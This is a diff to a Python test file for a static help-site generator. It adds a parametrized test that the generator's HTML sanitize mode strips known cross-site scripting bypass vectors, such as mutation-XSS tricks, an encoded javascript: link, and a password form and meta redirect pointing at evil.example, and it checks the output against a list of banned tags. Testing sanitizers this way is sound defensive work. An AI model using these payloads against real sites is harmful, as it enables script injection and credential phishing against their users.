@@ -260,10 +260,11 @@ def test_sanitize_leaves_markdown_output_byte_for_byte(cli, tmp_path):
     pages = {}
     for value in ("true", "sanitize"):
         root = tmp_path / value
-        shutil.copytree(EXAMPLE_SITE, root, ignore=shutil.ignore_patterns("site", ".helpgen-cache"))
+        shutil.copytree(EXAMPLE_SITE, root,
+                        ignore=shutil.ignore_patterns("site", ".helpgen-cache"))
         config = root / "helpgen.yml"
-        config.write_text(config.read_text(encoding="utf-8") + f"\nmarkdown:\n  raw_html: {value}\n",
-                          encoding="utf-8")
+        config.write_text(config.read_text(encoding="utf-8")
+                          + f"\nmarkdown:\n  raw_html: {value}\n", encoding="utf-8")
         folder = next(p for p in sorted((root / "articles").iterdir()) if p.is_dir())
         write_site(folder, {"every-extension.md": article("Every extension", EVERY_EXTENSION)})
         result = cli("build", str(root), "--strict")
@@ -277,3 +278,25 @@ def test_sanitize_leaves_markdown_output_byte_for_byte(cli, tmp_path):
     for made in ("tabbed-set", "task-list", "footnote", "<abbr", "<svg", "<kbd", "<mark",
                  "highlight", "admonition", "<details", "<dl>", 'style="text-align: right;"'):
         assert made in every, made
+
+
+@pytest.mark.parametrize("vector", [
+    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<!--><script>alert(1)</script>-->',
+    '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
+    '<div x="1"onclick=alert(1)>x</div>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<form action="https://evil.example/"><input type="password" name="p"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+])
+def test_sanitize_stops_known_tricks(cli, site, vector):
+    with_setting(site, "sanitize")
+    write_site(site, {REQUEST: article("Request a refund", f"Before.\n\n{vector}\n\nAfter.")})
+    result = cli("build", str(site))
+    assert result.exit_code == 0, result.output
+    tags = " ".join(re.findall(r"<[^>]+>", body(site).lower()))      # text may say anything
+    for bad in ("<script", "onerror", "onclick", "javascript", "<animate", "<form", "<meta",
+                'type="password"'):
+        assert bad not in tags, (bad, tags)
+    assert "(markdown.raw_html: sanitize)" in result.output
